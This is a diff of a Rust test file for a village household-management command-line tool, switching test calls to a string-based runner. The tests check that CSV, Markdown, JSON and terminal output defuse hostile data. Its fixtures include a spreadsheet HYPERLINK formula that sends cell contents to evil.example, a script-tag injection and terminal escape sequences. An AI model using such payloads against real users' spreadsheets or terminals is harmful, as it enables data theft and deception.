@@ -7,8 +7,7 @@
 //! lane prints no HTML; a Markdown report turned into HTML by another tool gets
 //! escaped text (`\<script\>`), never a tag.
 
-mod common;
-use common::{csv_rows, json, Village};
+use crate::harness::{csv_rows, json, Village};
 
 const EVIL_ALLEY: &str = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"点我\")";
 const EVIL_MD: &str = "| ** <script>alert(1)</script>";
@@ -116,29 +115,10 @@ fn hostile() -> Village {
         "@note",
     ])
     .ok();
-    v.lane(&[
-        "escalate",
-        "1",
-        "--reason",
-        "=1+1",
-        "--by",
-        "L01",
-        "--at",
-        "2026-11-02T09:00",
-    ])
-    .ok();
-    v.lane(&[
-        "patrol",
-        "--leader",
-        "L01",
-        "--kind",
-        "inspection",
-        "--note",
-        "=HYPERLINK(\"p\")",
-        "--at",
-        "2026-11-03",
-    ])
-    .ok();
+    v.run("escalate 1 --reason =1+1 --by L01 --at 2026-11-02T09:00")
+        .ok();
+    v.run("patrol --leader L01 --kind inspection --note '=HYPERLINK(\"p\")' --at 2026-11-03")
+        .ok();
     v
 }
 
@@ -192,7 +172,7 @@ fn every_csv_lane_prints_neutralises_formulas() {
     // The hostile cells were there, and came out with the quote in front.
     assert!(neutralised >= 25, "{neutralised}");
     let list = csv_rows(
-        v.lane(&["--format", "csv", "household", "list"])
+        v.run("--format csv household list")
             .ok()
             .to_string()
             .as_str(),
@@ -201,7 +181,7 @@ fn every_csv_lane_prints_neutralises_formulas() {
     assert_eq!(list[1][3], "'\t=1");
     // Phone numbers are data, left as they are.
     assert_eq!(list[1][5], "+86 139 0000 0001");
-    let leaders = csv_rows(v.lane(&["--format", "csv", "leader", "list"]).ok());
+    let leaders = csv_rows(v.run("--format csv leader list").ok());
     assert!(leaders[1].contains(&"'＝HYPERLINK(1)".to_string()));
     assert!(leaders[1].contains(&"+86 138 0000 0001".to_string()));
 }
@@ -249,7 +229,7 @@ fn markdown_escapes_what_it_prints() {
             }
         }
     }
-    let md = v.lane(&["--format", "md", "alley", "list"]);
+    let md = v.run("--format md alley list").out();
     assert!(md
         .ok()
         .contains("\\| \\*\\* \\<script\\>alert(1)\\</script\\>"));
@@ -265,10 +245,7 @@ fn the_terminal_never_gets_a_control_character_from_the_data() {
             assert!(!out.stderr.contains(c), "{args:?}: {:?}", out.stderr);
         }
     }
-    assert!(v
-        .lane(&["show", "1"])
-        .stdout
-        .contains("\\u{1b}]0;pwned\\u{7}"));
+    assert!(v.run("show 1").ok().contains("\\u{1b}]0;pwned\\u{7}"));
     // Nor through an error message that quotes what was typed or read.
     let out = v.lane(&["alley", "show", "A\u{1b}[2J"]);
     assert_eq!(out.code, 2);
@@ -277,7 +254,7 @@ fn the_terminal_never_gets_a_control_character_from_the_data() {
         "alleys.csv",
         "id,name,group,leader,note\nA01,x\u{1b}[2J,g,,\n",
     );
-    let out = v.lane(&["check"]);
+    let out = v.run("check").out();
     assert!(
         !out.stdout.contains('\u{1b}') && out.stdout.contains("control character '\\u{1b}'"),
         "{:?}",
@@ -288,9 +265,9 @@ fn the_terminal_never_gets_a_control_character_from_the_data() {
 #[test]
 fn json_keeps_the_data_exactly() {
     let v = hostile();
-    let list = json(v.lane(&["--format", "json", "list"]).ok());
+    let list = json(v.run("--format json list").ok());
     assert_eq!(list[0]["title"], EVIL_TITLE);
-    let alleys = json(v.lane(&["--format", "json", "alley", "list"]).ok());
+    let alleys = json(v.run("--format json alley list").ok());
     assert_eq!(alleys[0]["name"], EVIL_ALLEY);
     assert_eq!(alleys[1]["name"], EVIL_MD);
 }
@@ -355,12 +332,7 @@ fn a_redacted_report_names_no_one_and_no_report_has_a_phone() {
         }
     }
     // Household IDs stay, so the village can still find who was not served.
-    let j = json(
-        v.lane(&[
-            "--format", "json", "report", "--month", "2026-11", "--redact",
-        ])
-        .ok(),
-    );
+    let j = json(v.run("--format json report --month 2026-11 --redact").ok());
     assert_eq!(
         j["last_person"][0]["households"][0],
         serde_json::json!({"id": "H0001"})
@@ -399,10 +371,9 @@ fn check_warns_of_formula_cells_in_the_folder_s_own_csv_files() {
         })
         .collect();
     // Warnings only: the phone numbers (`+86 ...`) are not among them.
-    v.lane(&["check"]).is(
-        0,
-        &expected,
-        "checked 2 alleys, 2 leaders, 2 households, 1 tickets: 0 errors, 11 warnings\n",
-    );
+    v.run("check")
+        .stdout(&expected)
+        .stderr("checked 2 alleys, 2 leaders, 2 households, 1 tickets: 0 errors, 11 warnings\n")
+        .success();
     v.assert_unchanged(&before);
 }
